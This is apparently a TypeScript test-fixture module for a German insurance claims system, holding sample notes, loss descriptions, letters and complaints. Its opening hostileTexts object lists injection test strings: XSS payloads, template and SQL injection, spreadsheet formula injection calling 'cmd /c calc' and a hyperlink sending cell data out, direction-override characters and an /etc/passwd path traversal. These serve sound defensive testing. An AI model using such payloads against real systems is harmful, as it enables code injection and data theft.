type Words = readonly [string, ...string[]]

/**
 * What must stay text wherever it is shown, exported or searched: markup, template expressions, SQL, formulas, and characters
 * that break lines, columns or the direction of writing. Each kind also stands in a letter of a known claim.
 */
export const hostileTexts: Record<string, string> = {
  script: '<script>document.title="stolen"</script>',
  imageError: '<img src=x onerror="window.__pwned=1">',
  svg: '<svg/onload=window.__pwned=1><a href="javascript:window.__pwned=1">Anlage</a>',
  mutation:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">',
  closing: '</td></tr></table></details><h1>Ende der Akte</h1>',
  braces: '{{ 7*7 }} {% for x in range(3) %}x{% endfor %} {# weg #}',
  constructorChain: "{{constructor.constructor('return process')().exit()}}",
  templateLiteral: `\${globalThis.process.exit()} #{7*7} <%= 7*7 %>`,
  sql: "'; DROP TABLE policies; -- /* */ UNION SELECT * FROM parties",
  quotes: `Er sagte: "Das ist 'Ihr' Problem" und ging; \`danach\` nichts mehr`,
  formula: '=HYPERLINK("http://example.invalid/?"&A1,"Bitte klicken")',
  formulaPlus: '+49 40 555 0199|cmd /c calc',
  formulaMinus: '-2+3+cmd|"/c calc"!A0',
  formulaAt: '@SUM(1+1)*cmd',
  formulaTab: '\t=1+1',
  formulaFullWidth: '＝1＋1',
  lines: 'Erste Zeile\nzweite Zeile, mit Komma\r\n"dritte" Zeile',
  direction: 'Vertrag \u202egnudnüK\u202c geprüft \u200b\u2066x\u2069',
  combining: 'Zalgo z\u0341\u0315\u0358 und ein Gesicht 👩🏽‍🚀 sowie 𝔉𝔯𝔞𝔨𝔱𝔲𝔯',
  path: '../../../../etc/passwd %00 file:///etc/passwd',
  long: `Ausführliche Schilderung: ${'Der Keller stand kniehoch unter Wasser, die Pumpe lief die ganze Nacht. '.repeat(40)}Ende.`,
}

export const hostileList = Object.values(hostileTexts) as unknown as Words

export const partyNotes: Words = [
  'Kunde wünscht Anruf nur nach 18 Uhr',
  'Post kommt zurück, neue Anschrift erfragt',
  'Schwerhörig, bitte schriftlich',
  'Betreuung durch Tochter, Vollmacht liegt vor',
  'Beschwert sich oft, bitte freundlich bleiben',
  'Nachlassgericht angeschrieben',
  'Namensänderung nach Heirat, Urkunde lag vor',
  'Keine Werbung!',
  'Siehe Akte "Sonderfälle"',
  'Spricht kaum Deutsch, Sohn übersetzt',
  'VIP: nur über die Direktion',
  'Schreibt sich mit c-k, nicht mit k',
  'Umzug angekündigt;\nneue Adresse folgt',
]

export const versionNotes: Words = [
  'lt. Schreiben des VN',
  'Antrag lag unterschrieben vor',
  'tel. Absprache mit Vermittler',
  'Korrektur nach Rüge',
  'Nachtrag auf Wunsch',
  'Beitragsanpassung gem. AVB',
  'Halterwechsel, Zulassungsbescheinigung Teil II',
  'Fehler der Datenerfassung, siehe Vermerk',
  'Wohnfläche berichtigt',
  'Einstufung "SF" geprüft',
]

/** What happened, by cause. */
export const lossTexts: Record<string, Words> = {
  K01: [
    'Auffahrunfall an der Ampel',
    'Beim Ausparken Zaun beschädigt',
    'Vorfahrt missachtet, Zusammenstoß auf der Kreuzung',
    'Auf nasser Fahrbahn von der Straße abgekommen',
    'Parkrempler, Verursacher "unbekannt"',
  ],
  K02: ['Fahrzeug über Nacht gestohlen', 'Pkw aus Tiefgarage entwendet, Schlüssel vorhanden'],
  K03: ['Hagelschlag, Dach und Motorhaube verbeult', 'Hagel, Scheibe gesprungen; Fahrzeug stand im Freien'],
  K04: ['Steinschlag in der Frontscheibe', 'Seitenscheibe eingeschlagen'],
  K05: ['Zusammenstoß mit Reh', 'Marderbiss, Kabel durchtrennt'],
  G01: [
    'Sturm deckte Teile des Daches ab',
    'Baum auf Garage gestürzt',
    'Schornstein umgeweht, Ziegel im Garten des Nachbarn',
  ],
  G02: ['Hagel zerschlug Rollläden und Wintergarten', 'Dachfenster durch Hagel undicht'],
  G03: ['Rohrbruch im Bad, Wasser in der Decke', 'Schlauch der Waschmaschine geplatzt', 'Frostschaden an der Heizung'],
  G04: ['Brand in der Küche, Fett entzündet', 'Blitzeinschlag, Dachstuhl brannte', 'Kabelbrand in der Werkstatt'],
  G05: ['Keller überflutet nach Starkregen', 'Bach trat über die Ufer, Erdgeschoss 1,20 m unter Wasser'],
  E01: ['Einbruch durch die Terrassentür, Schmuck entwendet', 'Wohnung durchwühlt während des Urlaubs'],
  E02: ['Fahrrad am Bahnhof gestohlen, Schloss geknackt', 'E-Bike aus dem Keller entwendet'],
  H01: [
    'Brille des Nachbarn zertreten',
    'Kind warf Ball durch Scheibe',
    'Rotwein auf geliehenem Teppich',
    'Hund riss Radfahrer um, Rad verbogen',
  ],
  H02: ['Fußgänger mit dem Fahrrad angefahren', 'Besucher auf vereister Treppe gestürzt'],
  U01: ['Sturz von der Leiter, Handgelenk gebrochen', 'Skiunfall, Kreuzbandriss', 'Treppensturz, Wirbelbruch'],
  U02: ['Bandscheibenvorfall, seit Monaten krankgeschrieben', 'Schwere Depression, Beruf nicht mehr ausübbar'],
  L01: ['Tod der versicherten Person, Sterbeurkunde liegt vor'],
  L02: ['Ablauf der Versicherung'],
}

export const eventTexts: Words = [
  'Rückruf erbeten',
  'Unterlagen vollständig',
  'VN meldet sich erneut',
  'Gutachten angefordert',
  'Deckung geprüft, keine Bedenken',
  'Anspruchsteller droht mit Klage',
  'Rechnung über Werkstatt erhalten',
  'tel. mit VN: "warte seit drei Wochen"',
  'Regress prüfen',
  'Quittung fehlt noch',
  'Akte an Großschaden abgegeben',
  'Foto per E-Mail eingegangen',
]

/** By kind of letter. */
export const letterTexts: Record<string, Words> = {
  S1: [
    'Sehr geehrte Damen und Herren,\nhiermit melde ich den Schaden. Ein "Foto" liegt bei.\nMit freundlichen Grüßen',
    'Anbei die Schadenanzeige; bitte um Mitteilung, wie es weitergeht.',
  ],
  S2: [
    'Wir benötigen noch die Rechnung und ein Foto des Schadens.',
    'Bitte senden Sie uns den Kostenvoranschlag zu, möglichst per E-Mail.',
  ],
  S3: [
    'Hiermit bestätige ich, dass ich den Unfall gesehen habe. Das rote Auto fuhr bei "Dunkelgelb".',
    'Ich war zu weit weg, um etwas sagen zu können.',
  ],
  S5: [
    'Wir haben den Schaden geprüft und überweisen den Betrag in den nächsten Tagen.',
    'Leider besteht für diesen Schaden kein Versicherungsschutz; siehe Ziffer 4.2 der Bedingungen.',
  ],
  S6: [
    'In der Sache zeige ich an, dass ich die Interessen des Geschädigten vertrete.',
    'Namens und in Vollmacht meiner Mandantschaft setze ich eine Frist von zwei Wochen.',
  ],
  S7: [
    'Ärztlicher Bericht: Zustand nach Distorsion der Halswirbelsäule, arbeitsunfähig bis auf Weiteres.',
    'Befund: Fraktur verheilt, Restbeschwerden bei Belastung.',
  ],
  S8: [
    'Das Ermittlungsverfahren wurde nach § 170 Abs. 2 StPO eingestellt.',
    'Akteneinsicht wird für drei Tage gewährt.',
  ],
}

export const injuries: Words = [
  'HWS-Distorsion',
  'Prellung der linken Schulter',
  'Fraktur des Handgelenks',
  'Schürfwunden',
  'Gehirnerschütterung',
  'Schock',
]
export const statements: Words = [
  'Ich habe nichts gesehen.',
  'Der Wagen kam von links, viel zu schnell.',
  'Es war glatt; ich konnte nicht mehr bremsen.',
  'Kann mich nicht erinnern',
  'Die Ampel war "noch grün".',
]
export const medicalNotes: Words = [
  'Asthma bronchiale, medikamentös eingestellt',
  'Zustand nach Meniskusoperation',
  'Bluthochdruck',
  'keine Angaben',
  'Heuschnupfen',
  'Hörsturz vor drei Jahren',
]
export const complaintTexts: Words = [
  'Seit sechs Wochen warte ich auf eine Antwort. Das ist unverschämt!',
  'Der Beitrag wurde erhöht, ohne dass man mir sagt warum.',
  'Ihr Vertreter hat mir etwas anderes versprochen.',
  'Woher haben Sie meine Telefonnummer? Ich verlange Auskunft nach Art. 15 DSGVO.',
  'Die Kündigung ging fristgerecht ab, "Einschreiben" liegt vor.',
  'Sie haben den Schaden zu Unrecht gekürzt.',
]
export const complaintAnswers: Words = [
  'Entschuldigung und Erläuterung gesandt',
  'Nach Prüfung abgeholfen',
  'Sach- und Rechtslage erläutert',
  'Teilbetrag aus Kulanz gezahlt',
  'Auskunft erteilt',
]
export const paymentReferences: Words = [
  'Versicherung',
  'Beitrag',
  'Vers.-Nr.',
  'Rechnung',
  'Dauerauftrag',
  'KFZ',
  'SEPA-Lastschrift Beitrag',
  'Hausrat',
  'Folgebeitrag',
]
export const dunningTexts: Words = [
  'Bitte überweisen Sie umgehend',
  'Letzte Frist nach § 38 VVG',
  'Zahlung überschneidet sich eventuell',
  'Kunde hat Ratenzahlung zugesagt',
]
